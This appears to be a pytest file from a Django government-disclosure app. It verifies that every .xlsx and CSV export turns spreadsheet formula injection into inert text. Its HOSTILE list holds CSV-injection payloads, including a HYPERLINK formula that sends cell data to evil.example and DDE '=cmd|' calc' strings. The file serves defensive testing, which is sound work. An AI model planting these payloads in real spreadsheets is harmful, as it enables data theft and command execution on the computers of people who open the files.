"""Spreadsheet formula injection (OWASP "CSV injection"): names imported as =HYPERLINK(...), =cmd|...,
+1+2, @SUM(...) come out of every export — staff .xlsx lists, statistics, annual reports (staff and
public), the public open-data CSV — as text, never as a cell a spreadsheet would evaluate."""
from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pytest
from django.urls import get_resolver

from tests.disclosure.conftest import decided_case
from tests.excel.util import download, officer_row, power_row
from zhifa.common import exports
from zhifa.disclosure import opendata
from zhifa.disclosure.actions import publications as publication_actions
from zhifa.orgs import actions as org_actions
from zhifa.orgs.excel import OFFICER_HEADERS, import_officers
from zhifa.powers.excel import POWER_ITEM_HEADERS, import_power_items
from zhifa.supervision.actions import reports

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?q="&A1,"点击查看")', "=cmd|' /C calc'!A0", "+1+2", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.fixture
def cw(shared_cw):
    return shared_cw


def test_cell_helper_neutralises_formulas_and_keeps_numbers():
    for value in HOSTILE:
        assert exports.cell(value) == "'" + value and exports.is_neutral(exports.cell(value))
    for value in (-12, -12.5, 3, "-12.5", "+86", "-3%", "张三", "", None, "a=b"):
        assert exports.cell(value) == value
    assert exports.row(["=1", 2]) == ["'=1", 2]


def _xlsx_cells(content: bytes):
    wb = openpyxl.load_workbook(io.BytesIO(content))  # not read-only: formulas keep data_type "f"
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                yield c.data_type, c.value


def _csv_cells(content: bytes):
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))):
        yield from row


def _text_xlsx(headers, rows) -> io.BytesIO:
    """A workbook whose cells are text, as a user gets by typing '=… in Excel (openpyxl would
    otherwise store "=…" as a formula, which an import reads as empty)."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(list(headers))
    for r in rows:
        ws.append([r.get(h) for h in headers])
        for c in ws[ws.max_row]:
            if isinstance(c.value, str):
                c.data_type = "s"
    buf = io.BytesIO()
    wb.save(buf)
    buf.seek(0)
    buf.name = "upload.xlsx"
    return buf


@pytest.fixture
def hostile_world(cw):
    """Hostile text through the real import paths (officers and power items .xlsx) and an entity
    renamed through its action; a decided, published case and a published annual report."""
    rows = [officer_row(姓名=name[:30], 职务=name[:30]) for name in HOSTILE]
    report = import_officers(_text_xlsx(OFFICER_HEADERS, rows), acting_user=cw["head"])
    assert report.ok, report.errors
    report = import_power_items(_text_xlsx(POWER_ITEM_HEADERS, [power_row(事项名称=name, 责任事项=name)
                                                                for name in HOSTILE]), acting_user=cw["head"])
    assert report.ok, report.errors
    org_actions.do_update_entity(cw["smj"], {"name": HOSTILE[1], "short_code": "七市监"}, acting_user=cw["admin"])
    one = decided_case(cw)
    publication_actions.do_approve(one.publication, acting_user=cw["head"], on=dt.date(2026, 4, 23))
    rep = reports.do_generate_annual_report(cw["smj"], 2026, acting_user=cw["head"])
    return {"report": reports.do_publish_annual_report(rep, acting_user=cw["head"])}


def _export_urls(cw, report):
    """(user, url, kind) of every download: the list pages' exports (every URL named *-export),
    statistics, annual reports (staff and public) and every open-data CSV."""
    names = sorted(n for n in get_resolver().reverse_dict if isinstance(n, str) and n.endswith("-export"))
    assert {"officers-export", "power-items-export"} <= set(names), names
    from django.urls import reverse

    out = [(cw["admin"], reverse(n), "xlsx") for n in names]
    out += [(cw["sup_city"], "/supervision/stats/query.xlsx?year=2026&dims=entity", "xlsx"),
            (cw["sup_city"], "/supervision/stats/report.xlsx?year=2026", "xlsx"),
            (cw["head"], f"/disclosure/reports/{report.pk}/report.xlsx", "xlsx"),
            (None, f"/gs/reports/{report.pk}/report.xlsx", "xlsx")]
    out += [(None, f"/gs/data/{slug}.csv", "csv") for slug in opendata.DATASETS]
    return out


def test_no_export_holds_a_live_formula(cw, hostile_world, client):
    seen_hostile = set()
    for user, url, kind in _export_urls(cw, hostile_world["report"]):
        client.logout()
        if user is not None:
            client.force_login(user)
        r = client.get(url)
        assert r.status_code == 200, url
        content = download(r)
        cells = _xlsx_cells(content) if kind == "xlsx" else ((None, v) for v in _csv_cells(content))
        for data_type, value in cells:
            assert data_type != "f", (url, value)
            assert exports.is_neutral(value), (url, value)
            if isinstance(value, str) and any(value.startswith("'" + h[:8]) for h in HOSTILE):
                seen_hostile.add(url.split("?")[0])
    # The hostile text did reach the exports (neutralised), so the walk above is not vacuous.
    report = hostile_world["report"].pk
    assert {"/orgs/officers/export.xlsx", "/powers/power-items/export.xlsx", "/gs/data/officers.csv",
            "/supervision/stats/query.xlsx", f"/disclosure/reports/{report}/report.xlsx",
            f"/gs/reports/{report}/report.xlsx"} <= seen_hostile, seen_hostile
